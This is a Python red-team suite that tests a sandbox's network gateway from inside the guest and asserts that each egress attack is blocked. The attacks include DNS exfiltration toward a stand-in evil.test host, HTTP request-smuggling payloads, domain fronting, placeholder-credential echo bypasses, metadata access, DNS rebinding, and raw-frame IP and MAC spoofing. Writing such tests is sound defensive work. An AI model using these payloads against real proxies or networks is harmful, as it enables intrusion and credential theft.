"""Red-team suite: attacks a sandbox's guest tries against its network; each must fail.

Stdlib only, so it runs inside a real VM as well as in the test "guest" namespace:

    SPACE_REDTEAM_CONFIG=config.json python3 attacks.py [--json results.json] [names...]

Each attack states its technique and the mitigation expected, and holds only if the attack got
nothing through. A few positive checks first prove the path works at all (otherwise every attack
would "hold" trivially). Exit status 0 when everything held.
"""

from __future__ import annotations

import argparse
import concurrent.futures
import http.client
import json
import os
import random
import re
import socket
import ssl
import struct
import subprocess
import sys
import time
import traceback
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

CONFIG: dict[str, Any] = {}
# How long an attempt waits for an answer that should never come. Each blocked attempt waits it
# out, so it sets the suite's length; the honest controls are answered within milliseconds.
TIMEOUT = 1.0


@dataclass
class Attack:
    name: str
    technique: str
    mitigation: str
    fn: Callable[[], None]
    positive: bool = False


ATTACKS: list[Attack] = []


def attack(technique: str, mitigation: str, positive: bool = False) -> Callable[..., Any]:
    def register(fn: Callable[[], None]) -> Callable[[], None]:
        ATTACKS.append(Attack(fn.__name__, technique, mitigation, fn, positive))
        return fn

    return register


# helpers -------------------------------------------------------------------------------------


def origin(name: str) -> str:
    return str(CONFIG["origins"][name])


def request(
    address: str,
    port: int,
    raw: bytes,
    sni: str | None = None,
    cafile: str | None = None,
    timeout: float = TIMEOUT,
) -> bytes:
    """Send `raw` to address:port (TLS if `cafile`), return all that came back (b"" if nothing)."""
    try:
        sock = socket.create_connection((address, port), timeout=timeout)
    except OSError:
        return b""
    try:
        if cafile is not None:
            ctx = ssl.create_default_context(cafile=cafile)
            if sni is None:
                ctx.check_hostname = False
            sock = ctx.wrap_socket(sock, server_hostname=sni)
        sock.sendall(raw)
        out = b""
        while True:
            data = sock.recv(65536)
            if not data:
                return out
            out += data
    except (OSError, ssl.SSLError):
        return b""
    finally:
        sock.close()


def get(
    host: str, path: str = "/", headers: str = "", body: bytes = b"", method: str = "GET"
) -> bytes:
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{headers}"
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return (head + "\r\n").encode() + body


def ok(reply: bytes) -> bool:
    return reply.startswith(b"HTTP/1.1 200")


def resolve(name: str) -> str:
    return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def dns_query(
    server: str, name: str, qtype: int = 1, family: int = socket.AF_INET, tcp: bool = False
) -> tuple[int, list[str]] | None:
    """(rcode, A records) of a raw DNS query over UDP (or TCP), or None when nothing answered."""
    qid = random.randrange(65536)
    packet = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        packet += bytes([len(label)]) + label.encode()
    packet += b"\0" + struct.pack("!HH", qtype, 1)
    try:
        if tcp:
            with socket.create_connection((server, 53), timeout=TIMEOUT) as s:
                s.sendall(struct.pack("!H", len(packet)) + packet)
                data = b""
                while len(data) < 2 or len(data) < 2 + struct.unpack("!H", data[:2])[0]:
                    chunk = s.recv(4096)
                    if not chunk:
                        return None
                    data += chunk
                data = data[2:]
        else:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.settimeout(TIMEOUT)
                s.sendto(packet, (server, 53))
                data = s.recv(4096)
    except OSError:
        return None
    rcode = data[3] & 0x0F
    answers = []
    ancount = struct.unpack("!H", data[6:8])[0]
    pos = len(packet)  # the question is echoed as sent
    for _ in range(ancount):
        while data[pos] != 0 and data[pos] < 0xC0:
            pos += data[pos] + 1
        pos += 2 if data[pos] >= 0xC0 else 1
        rtype, _, _, rdlen = struct.unpack("!HHIH", data[pos : pos + 10])
        pos += 10
        if rtype == 1:
            answers.append(socket.inet_ntoa(data[pos : pos + rdlen]))
        pos += rdlen
    return rcode, answers


def no_reply_udp(address: str, port: int, family: int = socket.AF_INET) -> bool:
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        try:
            s.sendto(b"ping", (address, port))
            s.recv(100)
        except OSError:
            return True
    return False


# positive checks -----------------------------------------------------------------------------


@attack("plain HTTP to an allowed name", "allowed and reaches the origin", positive=True)
def allowed_http_works() -> None:
    address = resolve("allowed.test")
    reply = request(address, 80, get("allowed.test"))
    assert ok(reply) and b"served-by " + origin("allowed.test").encode() in reply, reply


@attack(
    "HTTPS to an allowed pass-through name",
    "spliced by SNI: the origin's own certificate",
    positive=True,
)
def allowed_https_passthrough_works() -> None:
    reply = request(
        resolve("allowed.test"), 443, get("allowed.test"), "allowed.test", CONFIG["origin_ca"]
    )
    assert ok(reply), reply


@attack("HTTPS to a name the policy inspects", "terminated with the deployment CA", positive=True)
def inspected_https_works() -> None:
    address = resolve("inspect.test")
    reply = request(address, 443, get("inspect.test"), "inspect.test", CONFIG["gateway_ca"])
    assert ok(reply), reply
    # The origin's CA does not verify it: the gateway terminated TLS.
    assert request(address, 443, get("inspect.test"), "inspect.test", CONFIG["origin_ca"]) == b""


@attack(
    "placeholder in Authorization to the bound host", "swapped for the real secret", positive=True
)
def credential_placeholder_swapped() -> None:
    headers = f"Authorization: Bearer {CONFIG['placeholder']}\r\n"
    reply = request(
        resolve("secret.test"),
        443,
        get("secret.test", "/auth", headers),
        "secret.test",
        CONFIG["gateway_ca"],
    )
    assert ok(reply) and reply.endswith(b"auth-ok"), reply


@attack(
    "request to the bound host without any credential", "the gateway adds the header", positive=True
)
def credential_header_injected() -> None:
    reply = request(
        resolve("secret.test"),
        443,
        get("secret.test", "/header"),
        "secret.test",
        CONFIG["gateway_ca"],
    )
    assert ok(reply) and reply.endswith(b"header-ok"), reply


# attacks ---------------------------------------------------------------------------------------


@attack(
    "HTTP straight to an origin's IP address (Host: the IP)",
    "all TCP goes to the gateway; an IP is not an allowed name",
)
def direct_ip_egress() -> None:
    for name in ("allowed.test", "evil.test"):
        address = origin(name)
        assert not ok(request(address, 80, get(address))), address
    assert not ok(request(origin("evil.test"), 80, get("evil.test")))


@attack("TLS straight to an IP address without SNI", "no name, no CIDR rule: refused")
def direct_ip_tls_without_sni() -> None:
    assert request(origin("evil.test"), 443, get("evil.test"), None, CONFIG["origin_ca"]) == b""


@attack(
    "DNS to an outside resolver, over UDP and TCP",
    "port 53 is redirected to the gateway's resolver",
)
def dns_outside_resolver() -> None:
    answer = dns_query(CONFIG["outside_dns"], "evil.test")
    assert answer is not None and answer[0] == 5, answer  # REFUSED: the gateway answered
    # DNS over TCP goes to the gateway's resolver too.
    answer = dns_query(CONFIG["outside_dns"], "evil.test", tcp=True)
    assert answer is not None and answer[0] == 5, answer
    answer = dns_query(CONFIG["outside_dns"], "allowed.test", tcp=True)
    assert answer is not None and answer[1] == [origin("allowed.test")], answer


@attack("DNS exfiltration in query names", "names outside the policy are REFUSED, never forwarded")
def dns_exfiltration() -> None:
    secret = os.urandom(12).hex()
    for name in (f"{secret}.evil.test", f"{secret}.allowed.test"):
        for qtype in (1, 16, 28):  # A, TXT, AAAA
            answer = dns_query(CONFIG["gateway_ip"], name, qtype)
            assert answer is not None and answer[0] == 5, (name, answer)


@attack("IPv6 egress (TCP, UDP, to the gateway and beyond)", "all IPv6 from the guest is dropped")
def ipv6_egress() -> None:
    # A guest's root gives itself IPv6 (the agent configures none), so packets really leave.
    iface = CONFIG["interface"]
    for argv in (["addr", "add", "fd00:5ace::2/64", "dev", iface, "nodad"],
                 ["route", "add", "default", "via", "fd00:5ace::1", "dev", iface]):  # fmt: skip
        subprocess.run(["ip", "-6", *argv], capture_output=True, check=False)  # may exist
    for address, port in (("2001:db8::10", 80), ("fd00:5ace::1", 53), ("fd00:5ace::1", 80)):
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
            s.settimeout(TIMEOUT)
            try:
                s.connect((address, port))
                raise AssertionError(f"connected to [{address}]:{port}")
            except OSError:
                pass
    assert dns_query("fd00:5ace::1", "allowed.test", family=socket.AF_INET6) is None


@attack(
    "the cloud metadata address 169.254.169.254, by IP and by an allowed name",
    "link-local is refused after resolution; an IP is not a name",
)
def metadata_address() -> None:
    assert not ok(request("169.254.169.254", 80, get("169.254.169.254", "/latest/meta-data/")))
    assert not ok(request(resolve("allowed.test"), 80, get("metadata.test")))
    # With an allowed Host the gateway dials that name, not the address the guest chose.
    reply = request("169.254.169.254", 80, get("allowed.test"))
    assert b"served-by " + origin("allowed.test").encode() in reply, reply


@attack(
    "reaching the host, the gateway's own ports and the namespace's router",
    "the host only accepts redirected traffic; without an allowed name it is refused",
)
def host_and_gateway_ports() -> None:
    addresses = [*CONFIG["host_ips"], CONFIG["gateway_ip"]]
    tcp = [(a, p) for a in addresses for p in [22, 80, 443, 2375, 8080, *CONFIG["gateway_ports"]]]
    udp = [(a, p) for a in addresses for p in CONFIG["gateway_ports"]]
    with concurrent.futures.ThreadPoolExecutor(16) as pool:  # dropped probes each wait
        reached = list(pool.map(lambda t: ok(request(t[0], t[1], get(t[0]))), tcp))
        answered = list(pool.map(lambda t: not no_reply_udp(*t), udp))
    assert not any(reached), [t for t, r in zip(tcp, reached, strict=True) if r]
    assert not any(answered), [t for t, r in zip(udp, answered, strict=True) if r]


@attack(
    "reaching another sandbox's addresses", "namespaces are isolated; the host forwards nothing"
)
def other_sandbox() -> None:
    for address in CONFIG["other_sandboxes"]:
        for port in (22, 80):
            assert not ok(request(address, port, get(address))), (address, port)
    answer = dns_query(CONFIG["gateway_ip"], "other.test")  # allowed for the other sandbox only
    assert answer is not None and answer[0] == 5, answer


@attack(
    "domain fronting: SNI of an inspected name, Host of another",
    "terminated TLS: Host must equal SNI",
)
def domain_fronting_inspected() -> None:
    reply = request(
        resolve("inspect.test"), 443, get("evil.test"), "inspect.test", CONFIG["gateway_ca"]
    )
    assert reply.startswith(b"HTTP/1.1 403"), reply


@attack(
    "domain fronting through a pass-through name",
    "the gateway dials the SNI's name; the inner Host reaches only that origin",
)
def domain_fronting_passthrough() -> None:
    reply = request(origin("evil.test"), 443, get("evil.test"), "allowed.test", CONFIG["origin_ca"])
    assert b"served-by " + origin("evil.test").encode() not in reply, reply
    assert (
        request(origin("evil.test"), 443, get("evil.test"), "evil.test", CONFIG["origin_ca"]) == b""
    )


@attack(
    "HTTP CONNECT and absolute-form request tricks", "CONNECT refused; target must match Host (400)"
)
def connect_tricks() -> None:
    address = resolve("allowed.test")
    for target in ("evil.test:443", "allowed.test:443", origin("evil.test") + ":22"):
        reply = request(
            address, 80, f"CONNECT {target} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode()
        )
        assert not ok(reply), (target, reply)
    reply = request(address, 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 400"), reply
    two_hosts = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"
    assert not ok(request(address, 80, two_hosts))


@attack(
    "the secret's placeholder sent to a host it is not bound to (HTTP and HTTPS)",
    "blocked and logged; it never reaches that host",
)
def placeholder_to_unbound_host() -> None:
    placeholder = CONFIG["placeholder"]
    headers = f"Authorization: Bearer {placeholder}\r\n"
    reply = request(resolve("allowed.test"), 80, get("allowed.test", "/auth", headers))
    assert reply.startswith(b"HTTP/1.1 403"), reply
    body = f"token={placeholder}".encode()
    reply = request(
        resolve("inspect.test"),
        443,
        get("inspect.test", "/", body=body, method="POST"),
        "inspect.test",
        CONFIG["gateway_ca"],
    )
    assert reply.startswith(b"HTTP/1.1 403"), reply
    # Plain HTTP to the bound host: secrets are only ever used over TLS.
    reply = request(origin("secret.test"), 80, get("secret.test", "/auth", headers))
    assert not ok(reply), reply


@attack(
    "the placeholder in the URL or body of a request to its bound host (to get the real value "
    "stored or reflected by that service)",
    "swapped only in header values; elsewhere refused",
)
def placeholder_outside_headers() -> None:
    placeholder = CONFIG["placeholder"]
    address = resolve("secret.test")
    for raw in (
        get("secret.test", f"/echo?q={placeholder}"),
        get("secret.test", "/echo", body=f"q={placeholder}".encode(), method="POST"),
    ):
        reply = request(address, 443, raw, "secret.test", CONFIG["gateway_ca"])
        assert reply.startswith(b"HTTP/1.1 403"), reply


def lenient(name: str, raw: bytes, tls: bool = True) -> bytes:
    """`raw` sent to `name`'s lenient origin (tests/network/internet.py), through the gateway."""
    ports = CONFIG["lenient_ports"]
    if not tls:
        return request(resolve(name), ports["http"], raw)
    return request(resolve(name), ports["https"], raw, name, CONFIG["gateway_ca"])


@attack(
    "request smuggling: a head a lenient origin splits where the gateway does not (bare LF, "
    "bare CR, obs-fold, NUL, two Content-Lengths, Transfer-Encoding with Content-Length, two "
    "Hosts), so a second, unchecked request reaches the bound origin with the credentials",
    "every head parsed strictly (h11); ambiguous ones refused (400); the origin only ever gets "
    "a head rebuilt from the parsed fields",
)
def request_smuggling() -> None:
    p = CONFIG["placeholder"]
    second = f"GET /smuggled?k={p} HTTP/1.1\nHost: secret.test\nAuthorization: Bearer {p}\n\n"
    cl = len(second)
    variants = {
        "bare LF": f"GET /a HTTP/1.1\r\nHost: secret.test\r\nX-A: 1\nContent-Length: 0\n\n{second}"
        f"X-B: 2\r\nAuthorization: Bearer {p}\r\n\r\n",
        "bare CR": "GET /a HTTP/1.1\r\nHost: secret.test\r\nX-A: 1\rContent-Length: 0\r\r"
        + second.replace("\n", "\r")
        + f"X-B: 2\r\nAuthorization: Bearer {p}\r\n\r\n",
        "obs-fold": f"POST /a HTTP/1.1\r\nHost: secret.test\r\nContent-Length: {cl}\r\nX-A: 1\r\n"
        f" Content-Length: 0\r\n\r\n{second}",
        "NUL": "GET /a HTTP/1.1\r\nHost: secret.test\r\nX-A: 1\0\r\n\r\n",
        "two Content-Lengths": f"POST /a HTTP/1.1\r\nHost: secret.test\r\nContent-Length: 0\r\n"
        f"Content-Length: {cl}\r\n\r\n{second}",
        "same Content-Length twice": f"POST /a HTTP/1.1\r\nHost: secret.test\r\n"
        f"Content-Length: {cl}\r\nContent-Length: {cl}\r\n\r\n{second}",
        "Content-Length list": f"POST /a HTTP/1.1\r\nHost: secret.test\r\n"
        f"Content-Length: {cl}, {cl}\r\n\r\n{second}",
        "Transfer-Encoding and Content-Length": f"POST /a HTTP/1.1\r\nHost: secret.test\r\n"
        f"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n{cl:x}\r\n{second}\r\n0\r\n\r\n",
        "two Hosts": "GET /a HTTP/1.1\r\nHost: secret.test\r\nHost: evil.test\r\n\r\n",
    }
    for label, raw in variants.items():
        reply = lenient("secret.test", raw.encode("latin-1"))
        assert reply.startswith(b"HTTP/1.1 400"), (label, reply[:300])
        assert b"lenient:" not in reply, (label, reply[:300])
    # Plain HTTP: a smuggled request to another host behind an allowed one.
    raw = (b"GET /a HTTP/1.1\r\nHost: allowed.test\r\nX-A: 1\nContent-Length: 0\n\n"
           b"GET /smuggled HTTP/1.1\nHost: evil.test\n\r\n\r\n")  # fmt: skip
    reply = lenient("allowed.test", raw, tls=False)
    assert reply.startswith(b"HTTP/1.1 400") and b"lenient:" not in reply, reply[:300]


@attack(
    "absolute-form targets: userinfo (`http://allowed.test:80@evil.test/`, checked as the "
    "allowed name by a naive parser), an authority other than Host, another scheme",
    "refused (400): the target must agree with Host and the connection",
)
def absolute_form_tricks() -> None:
    address = resolve("allowed.test")
    for target, status in (
        ("http://allowed.test:80@evil.test/", b"400"),
        ("http://allowed.test@evil.test/", b"400"),
        ("http://evil.test/", b"400"),
        ("http://allowed.test:8080/", b"400"),
        ("https://allowed.test/", b"400"),
    ):
        raw = f"GET {target} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode()
        reply = request(address, 80, raw)
        assert reply.startswith(b"HTTP/1.1 " + status), (target, reply[:200])


@attack(
    "keep-alive requests served one by one, pipelined on one connection",
    "each is parsed, checked and answered in turn",
    positive=True,
)
def keep_alive_works() -> None:
    raw = get("secret.test", "/one") + get("secret.test", "/two", "Connection: close\r\n")
    reply = lenient("secret.test", raw)
    assert reply.count(b"HTTP/1.1 200") == 2, reply
    assert reply.index(b"lenient: /one") < reply.index(b"lenient: /two"), reply


@attack(
    "keep-alive: a first request that passes, then on the same connection one to another host, "
    "one with the placeholder in its URL, one with it in its body",
    "every request on a connection is checked: the later ones are refused",
)
def keep_alive_requests_each_checked() -> None:
    p = CONFIG["placeholder"]
    for second in (
        get("evil.test", "/two"),
        get("secret.test", f"/two?k={p}"),
        get("secret.test", "/two", body=f"k={p}".encode(), method="POST"),
    ):
        reply = lenient("secret.test", get("secret.test", "/one") + second)
        assert reply.count(b"HTTP/1.1 200") == 1 and b"lenient: /one" in reply, reply
        assert b"HTTP/1.1 403" in reply and b"lenient: /two" not in reply, reply


def echo(path: str, headers: dict[str, str]) -> tuple[int, bytes]:
    """(status, body as a client decodes it) of `path` on the bound host, which echoes the
    credentials it was sent (tests/network/internet.py: hostile_echo)."""
    ctx = ssl.create_default_context(cafile=CONFIG["gateway_ca"])
    conn = http.client.HTTPSConnection("secret.test", 443, context=ctx, timeout=TIMEOUT)
    try:
        conn.request("GET", path, headers={"Authorization": f"Bearer {CONFIG['placeholder']}",
                                           **headers})  # fmt: skip
        response = conn.getresponse()
        body = response.read()
        if response.getheader("Content-Encoding", "") in ("gzip", "deflate"):
            body = zlib.decompress(body, 32 + zlib.MAX_WBITS)
        return response.status, body
    finally:
        conn.close()


MASKED = re.compile(rb"-?Bearer \*{8,} \*{8,}")  # both credentials, overwritten


@attack(
    "get a secret echoed back past a byte-exact mask: split across chunk boundaries, gzip "
    "asked for (Accept-Encoding, TE) or sent anyway (two members), deflate, a transfer coding, "
    "two Range halves, an encoding nobody can search",
    "the gateway asks for identity and no range; decodes chunked, gzip and deflate and masks "
    "across pieces; refuses (502) a body it cannot search",
)
def echoed_secret_bypasses() -> None:
    for path, headers in (
        ("/echo-chunked", {}),
        ("/echo-gzip", {"Accept-Encoding": "gzip"}),
        ("/echo-gzip-always", {}),
        ("/echo-gzip-members", {}),
        ("/echo-deflate-always", {"Accept-Encoding": "deflate"}),
        ("/echo-te", {"TE": "gzip"}),
        ("/echo-range", {"Range": "bytes=0-20"}),
        ("/echo-range", {"Range": "bytes=21-"}),
    ):
        status, body = echo(path, headers)
        assert status == 200 and MASKED.fullmatch(body), (path, headers, status, body)
    for path in ("/echo-br-always", "/echo-te-always", "/echo-range-always"):
        status, body = echo(path, {})
        assert status == 502 and b"Bearer" not in body, (path, status, body)


@attack(
    "DNS rebinding: allowed names resolving to private, loopback, metadata addresses",
    "addresses are checked after the gateway's own resolution; stripped from DNS answers",
)
def dns_rebinding() -> None:
    for name in ("rebind.test", "rebind-local.test", "metadata.test"):
        answer = dns_query(CONFIG["gateway_ip"], name)
        assert answer is not None and answer[1] == [], (name, answer)
        # Even asked through a good address, the gateway resolves the name itself.
        assert not ok(request(origin("allowed.test"), 80, get(name))), name


@attack("ICMP echo (raw socket) to an origin and to the namespace's router", "dropped")
def icmp() -> None:
    for address in (origin("allowed.test"), CONFIG["gateway_ip"]):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
            s.settimeout(TIMEOUT)
            payload = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"space"
            csum = _checksum(payload)
            s.sendto(payload[:2] + struct.pack("!H", csum) + payload[4:], (address, 0))
            deadline = time.monotonic() + TIMEOUT
            while time.monotonic() < deadline:
                try:
                    data, peer = s.recvfrom(1500)
                except OSError:
                    break
                assert not (peer[0] == address and data[20] == 0), f"echo reply from {address}"


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) // 2 * 2]))
    if len(data) % 2:
        total += data[-1] << 8
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


@attack("UDP other than DNS (an echo service, NTP)", "dropped")
def udp() -> None:
    for port in (7, 123, 443):
        assert no_reply_udp(origin("allowed.test"), port), port


@attack(
    "TCP to other ports: a server-speaks-first service, HTTP with an allowed Host on port 22",
    "no CIDR rule and the name is allowed on 80/443 only",
)
def other_ports() -> None:
    assert request(origin("allowed.test"), 22, b"ping\n") == b""
    assert not ok(request(origin("allowed.test"), 22, get("allowed.test")))


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def syn_answered(src_mac: str, src_ip: str) -> bool:
    """Send a hand-made TCP SYN frame from `src_mac`/`src_ip` to an origin's port 80 on the raw
    interface, and say whether a SYN-ACK for it came back. The kernel's own routing and source
    selection are bypassed, as a hostile guest kernel would."""
    iface = CONFIG["interface"]
    request(origin("allowed.test"), 80, get("allowed.test"))  # fills the neighbour table
    gateway_mac = next(
        line.split()[3]
        for line in Path("/proc/net/arp").read_text().splitlines()[1:]
        if line.split()[0] == CONFIG["gateway_ip"]
    )
    dst_ip = origin("allowed.test")
    sport = random.randrange(20000, 60000)
    tcp = struct.pack(
        "!HHIIBBHHH", sport, 80, random.randrange(2**32), 0, 5 << 4, 0x02, 64240, 0, 0
    )
    pseudo = (
        socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, 6, len(tcp))
    )
    tcp = tcp[:16] + struct.pack("!H", _sum16(pseudo + tcp)) + tcp[18:]
    iph = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(tcp),
        random.randrange(65536),
        0x4000,
        64,
        6,
        0,
        socket.inet_aton(src_ip),
        socket.inet_aton(dst_ip),
    )
    iph = iph[:10] + struct.pack("!H", _sum16(iph)) + iph[12:]
    frame = bytes.fromhex(gateway_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", ""))
    frame += b"\x08\x00" + iph + tcp
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as s:
        s.bind((iface, 0))
        s.settimeout(0.2)
        s.send(frame)
        deadline = time.monotonic() + TIMEOUT
        while time.monotonic() < deadline:
            try:
                data = s.recv(2048)
            except OSError:
                continue
            ip_ = data[14:]
            if len(ip_) < 40 or ip_[9] != 6 or ip_[12:16] != socket.inet_aton(dst_ip):
                continue
            t = ip_[(ip_[0] & 0xF) * 4 :]
            src_port, dst_port = struct.unpack("!HH", t[:4])
            if src_port == 80 and dst_port == sport and t[13] & 0x12 == 0x12:
                return True
    return False


@attack(
    "IP spoofing: hand-made frames from another source address (raw AF_PACKET)",
    "the tap's ingress filter accepts only the guest's IPv4 address",
)
def ip_spoofing() -> None:
    if not CONFIG.get("can_spoof"):
        return
    mac = Path(f"/sys/class/net/{CONFIG['interface']}/address").read_text().strip()
    guest_ip = CONFIG.get("guest_ip", "10.0.2.2")
    assert syn_answered(mac, guest_ip), "control: an honest hand-made SYN got no answer"
    for spoofed in ("10.0.2.1", origin("evil.test")):
        assert not syn_answered(mac, spoofed), spoofed
    # With the spoofed address on the interface the guest also answers ARP for it, so replies
    # could come back if the SYN got through.
    iface = CONFIG["interface"]
    subprocess.run(["ip", "addr", "add", "10.0.2.3/32", "dev", iface], check=True)
    try:
        assert not syn_answered(mac, "10.0.2.3")
    finally:
        subprocess.run(["ip", "addr", "del", "10.0.2.3/32", "dev", iface], check=False)


@attack(
    "MAC spoofing: hand-made frames from another MAC (raw AF_PACKET)",
    "the tap's ingress filter drops every other source MAC",
)
def mac_spoofing() -> None:
    if not CONFIG.get("can_spoof"):
        return
    guest_ip = CONFIG.get("guest_ip", "10.0.2.2")
    for spoofed in ("02:00:00:00:00:99", "52:54:00:12:34:56"):
        assert not syn_answered(spoofed, guest_ip), spoofed


# runner --------------------------------------------------------------------------------------


def run(names: list[str]) -> list[dict[str, Any]]:
    results = []
    for a in ATTACKS:
        if names and a.name not in names:
            continue
        start = time.monotonic()
        try:
            a.fn()
            outcome, detail = ("works" if a.positive else "held"), ""
        except AssertionError as e:
            outcome, detail = ("broken" if a.positive else "FAILED"), str(e)[:500]
        except Exception:
            outcome, detail = "error", traceback.format_exc(limit=3)[-800:]
        results.append(
            {
                "name": a.name,
                "technique": a.technique,
                "mitigation": a.mitigation,
                "positive": a.positive,
                "outcome": outcome,
                "detail": detail,
                "seconds": round(time.monotonic() - start, 2),
            }
        )
        print(f"{outcome:7} {a.name}: {detail}", flush=True)
    return results


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--json", type=Path)
    parser.add_argument("names", nargs="*")
    args = parser.parse_args()
    CONFIG.update(json.loads(Path(os.environ["SPACE_REDTEAM_CONFIG"]).read_text()))
    results = run(args.names)
    if args.json:
        args.json.write_text(json.dumps(results, indent=1))
    return 0 if all(r["outcome"] in ("held", "works") for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
